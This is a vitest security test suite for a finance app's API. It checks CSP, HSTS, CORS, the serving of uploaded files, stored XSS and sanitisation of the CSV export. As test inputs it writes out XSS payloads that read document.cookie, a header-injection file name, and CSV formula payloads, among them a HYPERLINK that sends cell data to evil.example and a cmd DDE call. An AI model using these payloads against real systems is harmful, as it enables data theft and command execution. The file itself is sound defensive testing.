import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { multipartFile, renderReceipt, textPdf } from '../support/receipt-files';
import {
  createTestApp,
  signUp,
  TEST_CONFIG,
  type SignedUpUser,
  type TestContext,
} from '../test-app';
import { given } from '../support/given';
import { fixedReceiptReader } from './user-data';

let context: TestContext;
let user: SignedUpUser;

beforeAll(async () => {
  context = await createTestApp({ receiptReader: fixedReceiptReader() });
  user = await signUp(context.app, { setup: true });
});
afterAll(async () => {
  await context.close();
});

/** The directives of a Content-Security-Policy header, by name. */
function cspDirectives(header: string | string[] | number | undefined): Map<string, string[]> {
  const directives = new Map<string, string[]>();
  for (const part of String(header ?? '').split(';')) {
    const [name, ...values] = part.trim().split(/\s+/);
    if (name) directives.set(name.toLowerCase(), values);
  }
  return directives;
}

describe('security headers', () => {
  it('sends a strict CSP and the browser-safety headers on every kind of reply', async () => {
    const replies = [
      await context.app.inject({ method: 'GET', url: '/api/health' }),
      await context.app.inject({ method: 'GET', url: '/api/auth/me', headers: user.headers }),
      await context.app.inject({ method: 'GET', url: '/api/auth/me' }),
      await context.app.inject({ method: 'GET', url: '/api/no-such-route' }),
      await context.app.inject({ method: 'GET', url: '/api/docs' }),
    ];
    for (const reply of replies) {
      const csp = cspDirectives(reply.headers['content-security-policy']);
      const scripts = csp.get('script-src') ?? csp.get('default-src') ?? [];
      expect(scripts.length, reply.body.slice(0, 80)).toBeGreaterThan(0);
      expect(scripts).not.toContain("'unsafe-inline'");
      expect(scripts).not.toContain("'unsafe-eval'");
      expect(scripts).not.toContain('*');
      expect(csp.get('default-src')).toEqual(["'self'"]);
      expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
      expect(csp.get('object-src')).toEqual(["'none'"]);
      expect(reply.headers['x-content-type-options']).toBe('nosniff');
      expect(reply.headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
      expect(reply.headers['x-powered-by']).toBeUndefined();
    }
  });

  it('sends HSTS only behind TLS at a trusted proxy, never on plain HTTP or a spoofed header', async () => {
    const hsts = async (app: TestContext['app'], headers: Record<string, string>) =>
      (await app.inject({ method: 'GET', url: '/api/health', headers })).headers[
        'strict-transport-security'
      ];
    expect(await hsts(context.app, {})).toBeUndefined();
    // Without TRUST_PROXY, anyone could send X-Forwarded-Proto: it must not count.
    expect(await hsts(context.app, { 'x-forwarded-proto': 'https' })).toBeUndefined();
    const proxied = await createTestApp({
      receiptReader: fixedReceiptReader(),
      config: { ...TEST_CONFIG, TRUST_PROXY: true },
    });
    try {
      expect(await hsts(proxied.app, { 'x-forwarded-proto': 'https' })).toMatch(
        /^max-age=\d{7,}; includeSubDomains$/,
      );
      expect(await hsts(proxied.app, { 'x-forwarded-proto': 'http' })).toBeUndefined();
      expect(await hsts(proxied.app, {})).toBeUndefined();
    } finally {
      await proxied.close();
    }
  });
});

describe('CORS', () => {
  const allowed = 'https://allowed.moneta.dev';
  const preflight = (origin: string) =>
    context.app.inject({
      method: 'OPTIONS',
      url: '/api/transactions',
      headers: {
        origin,
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization, content-type',
      },
    });
  const simple = (origin: string) =>
    context.app.inject({
      method: 'GET',
      url: '/api/auth/me',
      headers: { origin, ...user.headers },
    });

  it('allows the configured origin, for preflight and real requests', async () => {
    const pre = await preflight(allowed);
    expect(pre.statusCode).toBeLessThan(300);
    expect(pre.headers['access-control-allow-origin']).toBe(allowed);
    expect(String(pre.headers['access-control-allow-headers']).toLowerCase()).toContain(
      'authorization',
    );
    const real = await simple(allowed);
    expect(real.headers['access-control-allow-origin']).toBe(allowed);
    expect(real.headers['vary']).toMatch(/origin/i);
  });

  it.each([
    'https://evil.example',
    'null',
    'https://allowed.moneta.dev.evil.example',
    'https://evil-allowed.moneta.dev',
    'http://allowed.moneta.dev',
    'https://allowed.moneta.dev:8443',
    'https://ALLOWED.moneta.dev.evil.example',
  ])('gives no Access-Control-Allow-Origin to %s', async (origin) => {
    for (const response of [await preflight(origin), await simple(origin)]) {
      expect(response.headers['access-control-allow-origin']).toBeUndefined();
      expect(response.headers['access-control-allow-credentials']).toBeUndefined();
    }
  });

  it('allows no origin at all when none is configured', async () => {
    const closed = await createTestApp({
      receiptReader: fixedReceiptReader(),
      config: { ...TEST_CONFIG, CORS_ORIGINS: [] },
    });
    try {
      const response = await closed.app.inject({
        method: 'OPTIONS',
        url: '/api/transactions',
        headers: { origin: allowed, 'access-control-request-method': 'POST' },
      });
      expect(response.headers['access-control-allow-origin']).toBeUndefined();
    } finally {
      await closed.close();
    }
  });
});

describe('uploaded files as the browser gets them', () => {
  const upload = async (bytes: Buffer, fileName: string, contentType: string) => {
    const { payload, headers } = multipartFile('receipt', fileName, contentType, bytes);
    const response = await context.app.inject({
      method: 'POST',
      url: '/api/receipts/upload',
      payload,
      headers: { ...headers, ...user.headers },
    });
    expect(response.statusCode, response.body).toBe(201);
    return response.json<{ _id: string; fileUrl: string }>();
  };

  it('serves each type as itself, inline, nosniff, never as HTML, whatever the client claimed', async () => {
    const png = await renderReceipt(['SHOP', 'TOTAL 1.00']);
    const jpeg = await renderReceipt(['SHOP', 'TOTAL 1.00'], 'jpeg');
    // The same file twice is refused, so the second JPEG is another receipt.
    const secondJpeg = await renderReceipt(['SHOP', 'TOTAL 2.00'], 'jpeg');
    const pdf = textPdf(['SHOP', 'TOTAL 1.00']);
    // [bytes, name sent, type claimed, type served, name served]: the name a download is saved
    // under gets the extension of what the file is, so that a saved copy never opens as a page.
    const cases: Array<[Buffer, string, string, string, string]> = [
      [png, 'receipt.png', 'text/html', 'image/png', 'receipt.png'],
      [jpeg, 'page.html', 'text/html', 'image/jpeg', 'page.html.jpg'],
      [secondJpeg, 'photo.JPEG', 'image/jpeg', 'image/jpeg', 'photo.JPEG'],
      [pdf, 'receipt.svg', 'image/svg+xml', 'application/pdf', 'receipt.svg.pdf'],
    ];
    for (const [bytes, fileName, claimed, served, servedName] of cases) {
      const { fileUrl, _id } = await upload(bytes, fileName, claimed);
      for (const file of [
        await context.app.inject({ method: 'GET', url: fileUrl }),
        await context.app.inject({
          method: 'GET',
          url: `/api/receipts/${_id}/file`,
          headers: user.headers,
        }),
      ]) {
        expect(file.statusCode).toBe(200);
        expect(file.headers['content-type']).toBe(served);
        expect(file.headers['content-disposition']).toMatch(
          new RegExp(`^inline; filename="${servedName.replaceAll('.', '\\.')}"`),
        );
        expect(file.headers['x-content-type-options']).toBe('nosniff');
        expect(file.rawPayload.equals(bytes)).toBe(true);
        if (served.startsWith('image/')) {
          expect(file.headers['content-security-policy']).toContain('sandbox');
        }
      }
    }
  });

  it('keeps a hostile file name out of the headers: no quotes breaking out, no new header', async () => {
    const png = await renderReceipt(['ANOTHER SHOP', 'TOTAL 3.00']);
    const hostile = 'a"; filename*=UTF-8\'\'evil.html; x=".png';
    const { fileUrl } = await upload(png, `${hostile}`, 'image/png');
    const file = await context.app.inject({ method: 'GET', url: fileUrl });
    const disposition = String(file.headers['content-disposition']);
    // Exactly one quoted filename and one encoded filename*, both derived from the upload.
    expect(disposition.match(/filename="/g)).toHaveLength(1);
    expect(disposition.match(/filename\*=/g)).toHaveLength(1);
    expect(disposition).toMatch(/^inline; filename="[^"]*"; filename\*=UTF-8''[^\s;"]*$/);
    expect(disposition).not.toContain('evil.html;');
  });
});

describe('stored XSS at the API level', () => {
  const markup = {
    name: '<script>alert("name")</script>',
    category: '<svg onload=alert(1)>',
    note: '"><img src=x onerror=alert(document.cookie)>',
  };

  it('stores markup verbatim and returns it as JSON data, never as a page', async () => {
    // Its own user, so that the summary's five newest are these rows.
    const user = await signUp(context.app, { setup: true });
    const created = await context.app.inject({
      method: 'POST',
      url: '/api/transactions',
      headers: user.headers,
      payload: { ...markup, cost: 5, addedOn: '2026-03-01', isIncome: false },
    });
    expect(created.statusCode).toBe(201);
    expect(created.headers['content-type']).toMatch(/^application\/json/);
    expect(created.json()).toMatchObject(markup);

    const budget = await context.app.inject({
      method: 'POST',
      url: '/api/budgets',
      headers: user.headers,
      payload: { category: markup.category, amount: 10, month: 3, year: 2026 },
    });
    expect(budget.json()).toMatchObject({ category: markup.category });
    const rule = await context.app.inject({
      method: 'POST',
      url: '/api/recurring/create',
      headers: user.headers,
      payload: {
        name: markup.name,
        category: markup.category,
        amount: 1,
        isIncome: false,
        frequency: 'monthly',
        startDate: '2026-03-01',
      },
    });
    expect(rule.json()).toMatchObject({ name: markup.name, category: markup.category });

    for (const url of [
      `/api/transactions?search=${encodeURIComponent('<script>')}`,
      '/api/transactions/summary',
      '/api/transactions/categories/expense',
      '/api/budgets',
      '/api/recurring',
    ]) {
      const response = await context.app.inject({ method: 'GET', url, headers: user.headers });
      expect(response.headers['content-type'], url).toMatch(/^application\/json/);
      expect(response.body, url).toContain(JSON.stringify(markup.category).slice(1, -1));
    }
    // A reflected path in an error is JSON too.
    const notFound = await context.app.inject({
      method: 'GET',
      url: '/api/%3Cscript%3Ealert(1)%3C/script%3E',
    });
    expect(notFound.statusCode).toBe(404);
    expect(notFound.headers['content-type']).toMatch(/^application\/json/);
  });

  it('neutralises every formula prefix in every text column of the CSV export', async () => {
    const exporter = await signUp(context.app, { setup: true });
    const prefixes = ['=', '+', '-', '@'];
    for (const [i, prefix] of prefixes.entries()) {
      await given.transaction(context.app, exporter, {
        name: `${prefix}HYPERLINK("http://evil.example/?"&A1,"x")`,
        category: `${prefix}cmd|' /C calc'!A0`,
        note: `${prefix}1+1 ","=2+2`,
        cost: i + 1,
        addedOn: '2026-03-01',
      });
    }
    // A split transaction's part rows carry the parts' own categories and notes.
    await given.transaction(context.app, exporter, {
      name: '=SUM(A1:A9)',
      category: 'Food',
      cost: 10,
      addedOn: '2026-03-01',
      splits: [
        { category: "+cmd|' /C calc'!A0", amount: 6, note: '-2+3' },
        { category: '@SUM(1)', amount: 4, note: '=1' },
      ],
    });
    const csv = await context.app.inject({
      method: 'GET',
      url: '/api/transactions/export',
      headers: exporter.headers,
    });
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toMatch(/^attachment;/);
    const rows = parse(csv.rawPayload, { bom: true }) as string[][];
    expect(rows).toHaveLength(1 + prefixes.length + 2);
    for (const row of rows.slice(1)) {
      // The original six columns, then Account, Currency, Base amount and Split.
      expect(row).toHaveLength(10);
      for (const cell of [row[2]!, row[3]!, row[5]!]) {
        expect(cell, cell).toMatch(/^'[=+\-@]/);
      }
    }
  });
});
